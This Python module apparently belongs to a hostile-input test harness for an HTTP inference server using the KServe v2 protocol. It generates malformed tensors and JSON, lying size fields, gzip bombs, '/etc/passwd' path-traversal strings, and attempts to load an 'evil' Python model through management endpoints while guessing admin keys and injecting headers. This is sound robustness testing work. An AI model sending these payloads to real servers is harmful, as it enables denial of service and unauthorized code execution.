"""Attacks on the KServe v2 endpoint over HTTP: JSON, tensors behind it, and the paths of management."""

from __future__ import annotations

import base64
import functools
import gzip
import json
import struct
from collections.abc import Callable
from typing import Any

from plurum.benchmarks.claims.hostile.attack import EITHER, Attacker, Kind, Make
from plurum.benchmarks.claims.hostile.grpc_attacks import evil_model
from plurum.benchmarks.tools.requests import bytes_element
from plurum.benchmarks.tools.wire import http_request

__all__ = ["MANAGEMENT", "TENSORS"]

_MODELS = "/v2/models"
_IMAGE, _PIXELS = f"{_MODELS}/ensemble/infer", f"{_MODELS}/ensemble_pixels/infer"
_SHAPES: tuple[Any, ...] = (
    [0, 1], [1, 0], [-1, 1], [1], [], [1, 1, 1], [1 << 63], [1 << 62, 4], [1 << 31] * 8, [1] * 200, [1.5, 1], ["1", 1],
    [True, 1], None, 1, [[1]], {"0": 1}, [10**400, 1], [1e308], [65536, 65536, 65536, 65536],
)  # fmt: skip
_NAMES = (
    "IMAGE\0", "\0", "", "image", "IMAGE ", "ＩＭＡＧＥ", "A" * 100_000, "../IMAGE", "\ud800", "IMAGE\0\0", "%s%n",
    "PIXELS",
)  # fmt: skip
_DTYPES = ("FP64", "INT8", "UINT8", "FP8", "", "bytes", "BYTES\0", None, 5, ["BYTES"], "A" * 99_999, "BOOL", "STRING")
_VALUES: tuple[Any, ...] = (
    None, {}, "x", [[1, 2], [3]], ["a"] * 12, [-1] * 12, [1.5] * 12, [None] * 12, [0] * 13, [[]] * 12, [True] * 12,
)  # fmt: skip
_PARAMETERS: tuple[Any, ...] = (
    {"timeout": 10**400}, {"timeout": -1}, {"timeout": 1e308}, {"timeout": "soon"}, {"timeout": None},
    {"timeout": True},
    {"timeout": 1 << 64}, {"sequence_id": 1 << 65}, {"sequence_id": "x", "sequence_start": 3}, {"priority": -(1 << 63)},
    {"priority": 1e99}, {"binary_data_output": "yes"}, {"binary_data_output": []}, {"headers": {"a": "b"}}, {"": ""},
    {"triton_enable_empty_final_response": {}}, {"x" * 9999: "y"}, [], 7, "text", {"a": {"b": [1] * 99}},
    {"\ud800": "\udfff"},
)  # fmt: skip
_SPELLINGS = (
    "{}", "/{}", "{}/", "/.{}", "/x/..{}", "/%2e{}", "{}?a=b", "{}#x", "{};x", "{}%00", "{}%20", "/v2/../{}",
    "/v2/models/..{}",
)  # fmt: skip
_MANAGED = (
    "/v2/repository/index", "/v2/repository/models/evil/load", "/v2/repository/models/ensemble/load",
    "/v2/repository/models/voter/unload", "/v2/repository/models/ensemble/unload", "/v2/repository/other/index",
    "/v2/systemsharedmemory/status", "/v2/systemsharedmemory/region/a/register", "/v2/systemsharedmemory/unregister",
    "/v2/cudasharedmemory/status", "/v2/cudasharedmemory/region/a/register", "/v2/cudasharedmemory/unregister",
    "/v2/trace/setting", "/v2/models/ensemble/trace/setting", "/v2/logging", "/V2/Repository/Index",
    "/v2%2frepository%2findex", "/v2/repositor%79/index", "/v2/repository/models/..%2fevil/load",
)  # fmt: skip
_PATHS = (
    "/v2/models/{}", "/v2/models/{}/infer", "/{}", "/v2/models/ensemble/versions/{}/infer", "/v2/{}", "/static/{}",
)  # fmt: skip
_WORDS = (
    "..%2f..%2fetc%2fpasswd", "../../../../etc/passwd", "%00", "%ff", "\\..\\x", "voter", "preprocess", "a" * 5000,
    "%2e%2e/", "é", "{}",
)  # fmt: skip
_BODIES: tuple[Any, ...] = (
    {}, {"log_verbose_level": 9},
    {"trace_level": ["TIMESTAMPS"], "trace_rate": "1"},
    {"key": "/plurum_x", "offset": 0, "byte_size": 64}, {"parameters": {"unload_dependents": True}}, {"ready": True},
)  # fmt: skip


def _tensor(**changed: Any) -> dict[str, Any]:
    return {"name": "PIXELS", "shape": [1, 2, 2, 3], "datatype": "UINT8", "data": [0] * 12} | changed


def _dumped(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=True).encode()


def _sent(make: Callable[[Attacker], bytes], path: str = _PIXELS) -> Make:
    return lambda attacker: [attacker.send("POST", path, make(attacker), content_type="application/json")]


def _changed(field: str, *values: Any) -> Make:
    def make(attacker: Attacker) -> list[int]:
        one = _tensor(**{field: attacker.choose(*values)})
        path = attacker.choose(_PIXELS, _IMAGE)
        return [attacker.send("POST", path, _dumped({"inputs": [one]}))]

    return make


def _binary(attacker: Attacker, tensor: dict[str, Any], behind: bytes, json_size: object = None) -> int:
    text = _dumped({"inputs": [tensor]})
    size = len(text) if json_size is None else json_size
    return attacker.send("POST", _IMAGE, text + behind, inference_header_content_length=size)


def _image_tensor(attacker: Attacker, element: bytes, size: object, shape: object = (1, 1)) -> list[int]:
    """Send an element of BYTES behind the JSON, with a shape and a size that may not be its own."""
    tensor = {"name": "IMAGE", "shape": shape, "datatype": "BYTES", "parameters": {"binary_data_size": size}}
    return [_binary(attacker, tensor, element)]


def _lying_sizes(attacker: Attacker) -> list[int]:
    element = bytes_element(attacker.image())
    odd: tuple[Any, ...] = (0, 1, -1, 1 << 31, 1 << 63, 10**400, "12", None, len(element) - 1, len(element) + 1)
    return _image_tensor(attacker, element, attacker.choose(*odd))


def _lying_elements(attacker: Attacker) -> list[int]:
    length = attacker.choose(0, 1, 1 << 31, (1 << 32) - 1, 77)
    element = struct.pack("<I", length) + attacker.chance.randbytes(50)
    return _image_tensor(attacker, element, len(element))


def _empty_batch(attacker: Attacker) -> list[int]:
    element = bytes_element(attacker.image())
    return _image_tensor(attacker, element, len(element), attacker.choose([0, 1], [0], [0, 0], [1, 0]))


def _json_sizes(attacker: Attacker) -> list[int]:
    size = attacker.choose(-1, 0, 1, 10**9, "x", "1e2", "٣", "", 1 << 64, "+5")
    return [_binary(attacker, _tensor(), b"", size)]


def _base64(attacker: Attacker) -> list[int]:
    text = base64.b64encode(attacker.image()).decode()
    tensor = {"name": "IMAGE", "shape": [1, 1], "datatype": "BYTES", "data": [text]}
    return [attacker.send("POST", _IMAGE, _dumped({"inputs": [tensor]}))]


def _deep(attacker: Attacker) -> bytes:
    return b'{"inputs":' + b"[" * attacker.chance.randint(1000, 100_000)


def _nested(attacker: Attacker) -> bytes:
    depth, opened, closed = attacker.chance.randint(300, 60_000), *attacker.choose(("[", "]"), ('{"a":', "}"))
    data = opened * depth + "0" + closed * depth
    return f'{{"inputs":[{{"name":"PIXELS","shape":[1],"datatype":"UINT8","data":{data}}}]}}'.encode()


def _numbers(attacker: Attacker) -> bytes:
    number = attacker.choose(
        "1" + "0" * 400, "NaN", "Infinity", "-Infinity", "1e999", "-0", "1e-999", "9" * 5000, "256"
    )
    return f'{{"inputs":[{{"name":"PIXELS","shape":[1,2,2,3],"datatype":"UINT8","data":[{number}]}}]}}'.encode()


def _duplicates(attacker: Attacker) -> bytes:
    first, second = json.dumps([_tensor()]), json.dumps([_tensor(name=f"T{attacker.chance.randrange(99)}")])
    return f'{{"inputs":{first},"inputs":{second},"id":"a","id":5}}'.encode()


def _encodings(attacker: Attacker) -> bytes:
    text = json.dumps({"inputs": [_tensor()]})
    encoding = attacker.choose("utf-16", "utf-32", "utf-8-sig", "utf-7", "cp037")
    return text.encode(encoding) + attacker.choose(b"", b"\0", b"\xff", b"}")


def _surrogates(attacker: Attacker) -> bytes:
    word = attacker.choose("\\ud800", "\\udfff\\ud800", "\\u0000", "\\uFFFF", "\\ud83d")
    return f'{{"id":"{word}","inputs":[{{"name":"{word}","shape":[1],"datatype":"BYTES","data":["{word}"]}}]}}'.encode()


def _many_inputs(attacker: Attacker) -> bytes:
    count = attacker.chance.randint(9, 5000)
    return _dumped({"inputs": [_tensor(name=f"T{number}", shape=[1], data=[0]) for number in range(count)]})


def _outputs(attacker: Attacker) -> bytes:
    odd: Any = attacker.choose(
        [{"name": "NONE"}], [{"name": "LABEL"}] * 3000,
        [{"name": "LABEL", "parameters": {"classification": 1 << 40}}], [{}], 7,
        [{"name": "LABEL", "parameters": {"shared_memory_region": "x", "shared_memory_byte_size": 9}}],
        [{"name": "LABEL\0"}],
    )  # fmt: skip
    return _dumped({"inputs": [_tensor()], "outputs": odd})


def _parameters(attacker: Attacker) -> bytes:
    odd = attacker.choose(*_PARAMETERS)
    where = attacker.chance.random() < 0.5
    return _dumped({"inputs": [_tensor(parameters=odd)]} if where else {"inputs": [_tensor()], "parameters": odd})


def _shared(attacker: Attacker) -> bytes:
    region = attacker.choose("x", "/plurum", "../x", "", 5)
    size = attacker.choose(12, 1 << 63, -1)
    parameters = {"shared_memory_region": region, "shared_memory_byte_size": size, "shared_memory_offset": 1 << 62}
    return _dumped({"inputs": [_tensor(parameters=parameters)]})


def _gzip_bomb(attacker: Attacker) -> list[int]:
    coding = attacker.choose("gzip", "deflate", "br", "gzip, gzip", "x", "identity, gzip")
    return [attacker.send("POST", attacker.path, _bomb(), content_encoding=coding)]


@functools.cache
def _bomb() -> bytes:
    return gzip.compress(bytes(100 << 20))


def _headers(attacker: Attacker) -> list[int]:
    name = attacker.choose(
        "x_deadline_ms", "x_priority", "x_request_id", "accept", "content_type", "inference_header_content_length"
    )
    odd = attacker.choose("-1", "soon", "1" * 400, "nan", "inf", "\udcff\udcfe", "x" * 9000, "", "0x10", "1e308", ";;;")
    return [attacker.send("POST", attacker.path, b"no image", **{name: odd})]


def _paths(attacker: Attacker) -> list[int]:
    method, word = (attacker.choose("GET", "POST"), attacker.choose(*_WORDS, str(attacker.chance.random())))
    return [attacker.send(method, attacker.choose(*_PATHS).format(word).replace(" ", "%20"))]


def _managed(attacker: Attacker) -> list[int]:
    path = attacker.choose(*_SPELLINGS).format(attacker.choose(*_MANAGED))
    names = ("admin_key", "Admin_Key", "x", "triton_grpc_protocol_admin_key", "x%20y")
    guess = attacker.choose("", "1", "admin", attacker.chance.randbytes(16).hex())
    model = base64.b64encode(evil_model(attacker)).decode()
    evil = {"parameters": {"config": '{"backend":"python"}', "file:1/model.py": model}}
    method, body = attacker.choose("POST", "GET"), _dumped(attacker.choose(evil, *_BODIES))
    sent = http_request(method, path, body, **{attacker.choose(*names): guess})
    if attacker.chance.random() < 0.5:
        name, value = attacker.known.header
        own = name.removeprefix(b"triton-grpc-protocol-")
        own = attacker.choose(own, own.replace(b"\n", b"\r\n"), own.replace(b"\n", b" "), own.replace(b"\n", b"\n "))
        sent = sent.replace(b"\r\n\r\n", b"\r\n" + own + b": " + value + b"\r\n\r\n", 1)
    return [attacker.kept(sent)]


TENSORS: dict[str, Kind] = {
    "deep JSON": Kind(_sent(_deep), deadly=True),
    "deep data": Kind(_sent(_nested), deadly=True),
    "numbers out of range": Kind(_sent(_numbers)),
    "duplicate keys": Kind(_sent(_duplicates)),
    "surrogates and NUL in JSON": Kind(_sent(_surrogates)),
    "JSON in other encodings": Kind(_sent(_encodings), may=EITHER),
    "random bytes for JSON": Kind(_sent(lambda attacker: attacker.chance.randbytes(99))),
    "wrong types": Kind(_changed("datatype", *_DTYPES)),
    "wrong shapes": Kind(_changed("shape", *_SHAPES), deadly=True),
    "wrong names of inputs": Kind(_changed("name", *_NAMES)),
    "wrong data": Kind(_changed("data", *_VALUES)),
    "many inputs": Kind(_sent(_many_inputs), cost=4),
    "wrong outputs": Kind(_sent(_outputs)),
    "parameters of odd types": Kind(_sent(_parameters), may=EITHER),
    "shared memory in a request": Kind(_sent(_shared)),
    "empty batches with an image": Kind(_empty_batch),
    "binary sizes that lie": Kind(_lying_sizes, may=EITHER),
    "lengths of elements that lie": Kind(_lying_elements),
    "JSON sizes that lie": Kind(_json_sizes),
    "base64 in BYTES": Kind(_base64),
    "gzip bombs": Kind(_gzip_bomb, cost=20),
    "odd headers": Kind(_headers, may=EITHER - {"3xx"}),
    "unknown paths": Kind(_paths, may=EITHER),
}  # fmt: skip

# A 2xx means that a stranger manages the server.
MANAGEMENT: dict[str, Kind] = {"management over HTTP": Kind(_managed)}
